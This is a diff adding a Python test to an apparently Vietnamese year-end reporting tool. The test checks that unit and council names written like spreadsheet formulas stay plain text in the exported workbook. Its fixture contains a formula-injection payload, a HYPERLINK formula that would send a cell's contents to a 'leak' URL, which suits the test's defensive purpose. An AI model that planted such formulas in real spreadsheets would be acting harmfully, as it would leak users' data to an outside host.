@@ -558,6 +558,22 @@ def test_markup_and_nfd_in_a_name_print_as_text() -> None:
     assert printed == [f"Tổ <b>dân</b> & <font size=40>phố</font> Hường {mark}"]
 
 
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_spreadsheet() -> None:
+    """A unit or council named "=HYPERLINK(…)" must not become a live formula in the office's copy."""
+    import dataclasses
+
+    formula = '=HYPERLINK("http://127.0.0.1:9/leak?"&B7,"Tiểu khu 1")'
+    figures = dataclasses.replace(synthetic(unit_label=formula), council_name="=1+1")
+    workbook = load_workbook(io.BytesIO(build_yearend_xlsx(figures)))
+    sheet = workbook["Đơn vị"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert cells
+    assert all(cell.data_type == "s" for cell in cells)
+    assert sheet["A2"].value == "=1+1"
+    assert sheet["A2"].data_type == "s"
+    assert not [cell for ws in workbook for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
+
+
 # --- The pages ---------------------------------------------------------------------------------
 
 
